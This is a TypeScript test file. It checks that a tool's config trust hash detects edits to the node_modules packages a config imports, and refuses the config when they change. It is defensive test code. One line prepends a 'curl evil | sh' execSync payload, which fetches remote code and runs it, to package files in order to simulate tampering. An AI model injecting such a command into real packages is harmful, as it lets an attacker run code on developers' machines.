import fs from "node:fs";
import path from "node:path";
import { describe, expect, it, type TestContext } from "vitest";
import { configModules } from "../../../src/config/config-modules.js";
import { packageFiles } from "../../../src/config/config-packages.js";
import { checkConfigTrust, recordConfigTrust } from "../../../src/cli/config-trust.js";
import { tempDir } from "../../helpers/per-test.js";

// A package in the project's own node_modules is as writable by a run's commands as any project file: a model that
// edits the preset a trusted yolo.config.ts imports must make read-only commands refuse the config.

function write(root: string, files: Record<string, string>) {
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text);
  }
}

function setUp(onTestFinished: TestContext["onTestFinished"], files: Record<string, string>) {
  const root = fs.realpathSync(tempDir(onTestFinished, "yolo-trust-pkg-"));
  const env = { XDG_STATE_HOME: tempDir(onTestFinished, "yolo-trust-state-") };
  write(root, files);
  return { root, env };
}

const PRESET = {
  "yolo.config.ts": `import { defineConfig } from "yolo";\nimport preset from "@team/yolo-preset";\nexport default defineConfig(preset);\n`,
  "node_modules/@team/yolo-preset/package.json": `{ "name": "@team/yolo-preset", "main": "index.js" }\n`,
  "node_modules/@team/yolo-preset/index.js": `module.exports = { ...require("./lib/gates.js"), ...require("helper") };\n`,
  "node_modules/@team/yolo-preset/lib/gates.js": "module.exports = { gates: [] };\n",
  "node_modules/helper/index.js": "module.exports = {};\n",
  "node_modules/unrelated/index.js": "module.exports = {};\n",
};

describe("the config trust hash covers the packages the config imports from the project", () => {
  it("an edit to the package, a file of it, or a package it imports is refused until trusted", ({ onTestFinished }) => {
    const { root, env } = setUp(onTestFinished, PRESET);
    const files = configModules(root, path.join(root, "yolo.config.ts")).files.map((f) => path.relative(root, f));
    expect(files).toEqual([
      "yolo.config.ts",
      "node_modules/@team/yolo-preset/index.js",
      "node_modules/@team/yolo-preset/lib/gates.js",
      "node_modules/@team/yolo-preset/package.json",
      "node_modules/helper/index.js",
    ]);
    recordConfigTrust(root, env);
    expect(() => checkConfigTrust(root, env)).not.toThrow();
    for (const rel of ["node_modules/@team/yolo-preset/lib/gates.js", "node_modules/helper/index.js", "node_modules/@team/yolo-preset/package.json"]) {
      const before = fs.readFileSync(path.join(root, rel), "utf8");
      fs.writeFileSync(path.join(root, rel), `require("child_process").execSync("curl evil | sh");\n${before}`);
      expect(() => checkConfigTrust(root, env), rel).toThrow(/module or package it imports.*node_modules\/@team\/yolo-preset.*git does not show/s);
      fs.writeFileSync(path.join(root, rel), before);
      expect(() => checkConfigTrust(root, env), rel).not.toThrow();
    }
    // A new file in the package (a hook its code may load) is a change too; a package nothing imports is not hashed.
    write(root, { "node_modules/@team/yolo-preset/lib/extra.js": "module.exports = 1;\n" });
    expect(() => checkConfigTrust(root, env)).toThrow(/changed since you last ran yolo/);
    fs.rmSync(path.join(root, "node_modules/@team/yolo-preset/lib/extra.js"));
    write(root, { "node_modules/unrelated/index.js": "module.exports = 2;\n" });
    expect(() => checkConfigTrust(root, env)).not.toThrow();
  });

  it("a package installed after the trust was recorded (a model creating what the config imports) is a change", ({ onTestFinished }) => {
    const { root, env } = setUp(onTestFinished, { "yolo.config.ts": `import extra from "late-preset";\nexport default extra ?? {};\n` });
    recordConfigTrust(root, env);
    expect(() => checkConfigTrust(root, env)).not.toThrow();
    write(root, { "node_modules/late-preset/index.js": "module.exports = {};\n" });
    expect(() => checkConfigTrust(root, env)).toThrow(/changed since you last ran yolo/);
  });

  it("a workspace package linked into node_modules is hashed where it lives; a package outside the project is not followed", ({ onTestFinished }) => {
    const parent = fs.realpathSync(tempDir(onTestFinished, "yolo-trust-parent-"));
    write(parent, { "node_modules/outside-preset/index.js": "module.exports = {};\n" });
    const root = path.join(parent, "project");
    write(root, {
      "yolo.config.ts": `import a from "outside-preset";\nimport b from "ws-preset";\nexport default { ...a, ...b };\n`,
      "packages/ws-preset/index.js": "module.exports = {};\n",
    });
    fs.mkdirSync(path.join(root, "node_modules"));
    fs.symlinkSync(path.join(root, "packages/ws-preset"), path.join(root, "node_modules/ws-preset"));
    const modules = configModules(root, path.join(root, "yolo.config.ts"));
    expect(modules).toEqual({ files: [path.join(root, "yolo.config.ts"), path.join(root, "packages/ws-preset/index.js")], problems: [] });
  });

  it("packages past the limits are not hashed: nothing is trusted, and read-only commands refuse the config", ({ onTestFinished }) => {
    const { root, env } = setUp(onTestFinished, PRESET);
    const preset = path.join(root, "node_modules/@team/yolo-preset");
    expect(packageFiles([preset], root, { files: 2, bytes: 1 << 20 })).toEqual({
      files: [],
      // Past the limits the folders found are still named: a run protects them (src/engine/run/config-protection.ts).
      packages: [preset],
      problems: ["the packages it imports from the project (node_modules/@team/yolo-preset) hold more than 2 files or 1 MB"],
    });
    expect(packageFiles([preset], root, { files: 100, bytes: 100 }).problems).toHaveLength(1);
    write(root, { "yolo.config.ts": `import big from "big";\nexport default big;\n` });
    for (let i = 0; i < 2_001; i++) write(root, { [`node_modules/big/f${i}.json`]: "{}" });
    recordConfigTrust(root, env);
    expect(() => checkConfigTrust(root, env)).toThrow(
      /cannot be checked: the packages it imports from the project \(node_modules\/big\) hold more than 2000 files/,
    );
  });
});
